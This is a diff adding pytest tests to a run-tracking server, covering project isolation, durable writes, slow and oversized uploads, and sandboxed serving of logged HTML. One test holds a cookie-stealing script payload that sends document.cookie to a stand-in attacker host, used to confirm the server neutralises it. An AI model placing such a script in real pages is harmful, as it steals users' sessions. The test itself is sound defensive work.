@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
+import json
 import os
+import socket
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 import requests
 import zstandard
 
-from tests.servers import Serving
+from tests.servers import Serving, serving, until
 from tests.store.journals import Writer
 from trackkit.backend.store import runs, series
 from trackkit.core import records, wire
@@ -124,6 +128,129 @@ def test_a_token_for_a_project_writes_to_no_other(guarded: Serving, tmp_path: Pa
 
     assert post(guarded, theirs.batch(), **headers).status_code == 403
     assert post(guarded, ours.batch(), **headers).status_code == 200
+
+
+def test_no_later_record_takes_a_run_into_another_project(guarded: Serving, tmp_path: Path) -> None:
+    headers = {"authorization": f"Bearer {guarded.token(projects=['p'])}"}
+    writer = Writer(tmp_path / "c", "r", "w").start(project="p").log({"x": 1})
+    first = writer.batch()
+    assert post(guarded, first, **headers).status_code == 200
+    start = records.Start(1.0, "r", "q", "r")
+    writer.say(start)
+
+    assert post(guarded, writer.batch(), **headers).status_code == 403
+    given = records.encode(start)
+    spelled = b"\xdc\x00" + bytes([given[0] & 0x0F]) + b"\xd9\x05start" + given[7:]  # the same in other words
+    assert records.decode(spelled) == start
+    again = Batch(first.end, first.end + 8 + len(spelled), [spelled], [first.end + 8 + len(spelled)])
+    assert post(guarded, again, **headers).status_code == 403
+    with guarded.services.storage.reading() as db:
+        (row,) = runs.load(db, runs.numbers(db))
+    assert row.project == "p"
+
+
+def test_what_is_to_be_durable_is_on_the_disk_before_the_answer(server: Serving, writer: Writer) -> None:
+    calls: list[str] = []
+    inner = server.services.storage.sync
+
+    def sync() -> None:
+        calls.append("sync")
+        inner()
+
+    server.services.storage.sync = sync  # type: ignore[method-assign]
+    post(server, writer.log({"x": 1}).batch())
+    assert calls == []
+
+    assert server.get("/runs/r/journals/w", durable=True)["position"] > 0
+    assert calls == ["sync"]
+
+
+def test_a_slow_large_file_delays_no_metric(server: Serving, writer: Writer) -> None:
+    content = os.urandom(8 << 20)
+    digest = hashlib.sha256(content).hexdigest()
+    seen: list[int] = []
+    post(server, writer.batch())
+
+    def drip() -> Iterator[bytes]:
+        for number in range(32):
+            yield content[number << 18 : (number + 1) << 18]
+            batch = writer.log({"x": number}).batch(number + 1)
+            assert post(server, batch).status_code == 200
+            chart = server.ask("GET", "/panel", params={"spec": '{"keys":["x"],"runs":["r"]}'})
+            seen.append(json.loads(chart.content[4 : 4 + int.from_bytes(chart.content[:4], "little")])["length"])
+            assert server.get("/runs/r/missing")["digests"] == []
+            assert not server.services.storage.blobs.exists(digest)
+
+    with requests.Session() as uploading:
+        uploading.trust_env = False
+        headers = {"x-trackkit-csrf": "x"}
+        taken = uploading.put(f"{server.address}/api/v1/blobs/{digest}", data=drip(), headers=headers, timeout=60)
+
+    assert taken.status_code == 201
+    assert seen == list(range(1, 33)), "each point was in the chart while the file was still on its way"
+    assert server.services.storage.blobs.verify(digest)
+
+
+def test_many_slow_files_at_once_delay_no_metric(server: Serving, writer: Writer) -> None:
+    """More of them than the server has threads."""
+    host, _, port = server.address.removeprefix("http://").partition(":")
+    with contextlib.ExitStack() as stack:
+        for number in range(100):
+            upload = stack.enter_context(socket.create_connection((host, int(port))))
+            head = f"PUT /api/v1/blobs/{number:064x} HTTP/1.1\r\nHost: localhost\r\nX-Trackkit-CSRF: x\r\n"
+            upload.sendall(f"{head}Content-Length: 10000000\r\n\r\n".encode() + b"x" * 1000)
+        until(lambda: len([*(server.config.root / "blobs").rglob(".*")]) >= 100)
+
+        assert post(server, writer.log({"x": 1}).batch()).status_code == 200
+        assert values(server) == [1]
+
+
+def test_a_file_that_breaks_off_leaves_nothing_behind(server: Serving) -> None:
+    host, _, port = server.address.removeprefix("http://").partition(":")
+    with socket.create_connection((host, int(port))) as upload:
+        head = f"PUT /api/v1/blobs/{'a' * 64} HTTP/1.1\r\nHost: localhost\r\nX-Trackkit-CSRF: x\r\n"
+        upload.sendall(f"{head}Content-Length: 10000000\r\n\r\n".encode() + b"x" * 100_000)
+        until(lambda: [*(server.config.root / "blobs").rglob(".*")])
+    until(lambda: not list((server.config.root / "blobs").rglob(".*")))
+
+
+def test_a_file_larger_than_the_limit_is_refused_without_reading_it_all(tmp_path: Path) -> None:
+    with serving(tmp_path, max_blob_mb=1) as small:
+        answer = small.ask("PUT", f"/blobs/{'a' * 64}", data=b"x" * (1 << 20) + b"x")
+
+        assert answer.status_code == 413
+        assert "1,048,576 bytes" in answer.json()["error"]["message"]
+        assert not [path for path in (tmp_path / "blobs").rglob(".*") if path.is_file()]
+
+
+def test_a_body_larger_than_the_limit_is_refused(server: Serving) -> None:
+    body = b'{"notes": "' + b"x" * (5 << 20) + b'"}'
+
+    answer = server.ask("PATCH", "/runs/r", data=body, headers={"content-type": "application/json"})
+
+    assert answer.status_code == 413
+
+
+def test_html_that_a_run_logged_is_shown_in_frames_alone_and_can_do_nothing_there(
+    server: Serving, writer: Writer
+) -> None:
+    page = b"<script>fetch('https://evil.example.org/' + document.cookie)</script>"
+    post(server, writer.say(records.Object(1.0, "", "html", "media/p.html", len(page), inline=page)).batch())
+
+    def ask(params: dict[str, str], **headers: str) -> requests.Response:
+        return server.ask("GET", "/runs/r/files/media/p.html", params=params, headers=headers)
+
+    for answer in (ask({}), ask({"inline": "true"}), ask({}, **{"sec-fetch-dest": "iframe"}),
+                   ask({"inline": "true"}, **{"sec-fetch-dest": "document"})):  # fmt: skip
+        assert answer.headers["content-disposition"].startswith("attachment")
+        assert answer.headers["content-type"] == "application/octet-stream"
+    framed = ask({"inline": "true"}, **{"sec-fetch-dest": "iframe"})
+    policy = {part.split()[0]: part.split()[1:] for part in framed.headers["content-security-policy"].split(";")}
+    assert framed.headers["content-type"].startswith("text/html")
+    assert framed.content == page
+    assert policy["sandbox"] == ["allow-scripts"]  # a stranger's origin: no cookie, no storage, no window of ours
+    assert policy["default-src"] == ["'none'"]  # and no connection to anywhere
+    assert policy["frame-ancestors"] == ["'self'"]
 
 
 def test_a_deleted_run_does_not_come_back_by_half(server: Serving, writer: Writer) -> None:
